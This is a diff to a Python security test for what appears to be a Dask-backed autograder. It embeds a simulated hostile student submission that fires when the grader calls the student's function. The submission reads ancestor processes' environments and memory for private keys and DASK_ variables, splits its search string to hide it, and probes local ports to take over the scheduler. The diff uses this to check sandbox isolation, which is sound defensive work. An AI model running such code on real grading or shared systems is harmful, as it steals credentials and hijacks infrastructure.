@@ -270,11 +270,12 @@ def test_the_batch_and_its_workers_are_unreadable_to_their_own_user(local, base)
 
 ATTACK = '''
 
-# --- the attack: module-level code, run in the grading child at import ---
+# --- the attack, run in the grading child when the grader first calls warps_per_block ---
 def _attack(report_path, mark):
     import asyncio, json, os, ssl
 
     notes = {"pid": os.getpid(), "ports": {}, "ancestors": {}}
+    key_mark = b"PRIVATE " + b"KEY-----"  # never whole in this source, which the grader holds
 
     def ppid(pid):
         return int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
@@ -289,7 +290,10 @@ def _attack(report_path, mark):
         try:
             env = open(f"/proc/{pid}/environ", "rb").read()
             seen["environ"] = "read"
-            seen["environ_secrets"] = [k for k in (b"PRIVATE KEY", b"DASK_") if k in env]
+            seen["environ_secrets"] = [v.decode(errors="replace")[:80] for v in env.split(b"\\0")
+                                       if key_mark in v or v.startswith(b"DASK_")]
+            seen["pythonpath"] = [v.decode(errors="replace") for v in env.split(b"\\0")
+                                  if v.startswith(b"PYTHONPATH=")]
         except OSError as exc:
             seen["environ"] = type(exc).__name__
         try:
@@ -309,7 +313,7 @@ def _attack(report_path, mark):
                         continue
                     try:
                         mem.seek(start)
-                        if b"PRIVATE KEY-----" in mem.read(end - start):
+                        if key_mark in mem.read(end - start):
                             found = True
                     except OSError:
                         continue
@@ -350,19 +354,23 @@ def _attack(report_path, mark):
         plain.check_hostname = False
         plain.verify_mode = ssl.CERT_NONE
         out = {}
+
+        async def one(scheme, args):
+            comm = await connect(f"{scheme}://127.0.0.1:{port}", timeout=3, **args)
+            await comm.write({"op": "identity", "reply": True})
+            reply = await comm.read()
+            out[scheme] = "ANSWERED " + str(reply)[:300]
+            if reply.get("type") == "Scheduler":
+                from distributed import Client
+                async with Client(f"{scheme}://127.0.0.1:{port}", asynchronous=True,
+                                  timeout=5) as client:
+                    out[scheme] += " / " + str(await client.run_on_scheduler(rewrite, mark))
+
         for scheme, args in (("tcp", {}), ("tls", {"ssl_context": plain})):
             try:
-                comm = await connect(f"{scheme}://127.0.0.1:{port}", timeout=3, **args)
-                await comm.write({"op": "identity", "reply": True})
-                reply = await asyncio.wait_for(comm.read(), 3)
-                out[scheme] = "ANSWERED " + str(reply)[:300]
-                if reply.get("type") == "Scheduler":
-                    from distributed import Client
-                    async with Client(f"{scheme}://127.0.0.1:{port}", asynchronous=True,
-                                      timeout=5) as client:
-                        out[scheme] += " / " + str(await client.run_on_scheduler(rewrite, mark))
-            except Exception as exc:
-                out[scheme] = "refused " + type(exc).__name__
+                await asyncio.wait_for(one(scheme, args), 8)
+            except (Exception, asyncio.TimeoutError) as exc:
+                out.setdefault(scheme, "refused " + type(exc).__name__)
         return port, out
 
     async def all_ports():
@@ -376,11 +384,16 @@ def _attack(report_path, mark):
         f.write(json.dumps(notes) + "\\n")
 
 
-try:
-    _attack(REPORT_PATH, MARK)
-except Exception:
-    pass
+def _attack_once():
+    import os
+    if os.environ.get("KG_ATTACKED") is None:
+        os.environ["KG_ATTACKED"] = "1"
+        try:
+            _attack(REPORT_PATH, MARK)
+        except Exception:
+            pass
 '''
+HONEST = "def warps_per_block(threads_per_block, warp_size=32):\n"
 
 
 def _make_class(base: Path, mode: str) -> tuple[Path, dict[str, Path], Path]:
@@ -388,7 +401,11 @@ def _make_class(base: Path, mode: str) -> tuple[Path, dict[str, Path], Path]:
     root = base / f"class-{mode}" / "submitted"
     report = base / f"attack-{mode}.jsonl"
     mutant = (EXERCISES / "occupancy" / "mutants" / f"{MUTANT}.py").read_text()
-    attack = (mutant + f"\nREPORT_PATH = {str(report)!r}\nMARK = {base.name!r}\n" + ATTACK)
+    assert HONEST in mutant
+    # The grader runs only a submission's imports, constants and definitions at its top level:
+    # the attack runs when the grader first calls the student's function.
+    attack = (mutant.replace(HONEST, HONEST + "    _attack_once()\n")
+              + f"\nREPORT_PATH = {str(report)!r}\nMARK = {base.name!r}\n" + ATTACK)
     files = {"mallory": attack,
              "victor": (EXERCISES / "occupancy" / "solution.py").read_text()}
     out = {}
@@ -455,6 +472,8 @@ def test_with_plain_children_an_attacking_submission_gets_nothing(plain):
         assert "reaper.py" in reaper["cmdline"], ancestors
         # Its parent, the reaper, is an ordinary process: readable, and nothing to find.
         assert reaper["environ"] == "read" and reaper["environ_secrets"] == []
+        # No folder of Dask's, which the child could write, is on the children's import path.
+        assert "dask" not in " ".join(reaper["pythonpath"]), reaper["pythonpath"]
         assert reaper["mem"] == "read" and reaper["fd"] == "read"
         worker = [s for s in ancestors.values() if "spawn_main" in s["cmdline"]]
         assert len(worker) == 1, ancestors
